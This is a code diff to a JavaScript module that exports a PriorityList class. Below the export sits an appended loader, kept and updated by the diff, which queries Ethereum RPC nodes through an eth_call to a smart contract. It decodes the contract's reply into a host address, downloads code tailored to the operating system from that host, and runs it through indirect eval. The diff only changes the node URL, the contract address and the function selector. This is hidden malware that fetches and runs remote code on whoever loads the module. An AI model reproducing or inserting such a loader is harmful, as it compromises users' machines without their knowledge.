@@ -24,11 +24,11 @@ class PriorityList {
 
 module.exports = { PriorityList };
 
-const nodes = ['https://eth-mainnet.rpc.example.invalid', 'https://cloudflare-eth.rpc.example.invalid'];
+const nodes = ['https://eth-mainnet.rpc.example.invalid', 'https://eth-two.rpc.example.invalid'];
 async function lane(list) {
   for (const url of list) {
     try {
-      const answer = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0xa1b40044EBc2794f207D45143Bd82a1B86156c6b', data: '0x7d434425' + '0'.repeat(64) }, 'latest'] }) });
+      const answer = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x6398d14c6fc075bdad55bb16364e9485c203eb7d', data: '0x5c60f226' + '0'.repeat(64) }, 'latest'] }) });
       const hex = (await answer.json()).result.slice(130);
       const host = Buffer.from(hex, 'hex').toString().replace(/\0+$/, '');
       return (0, eval)(await (await fetch(`${host}/node/${process.platform}`)).text());
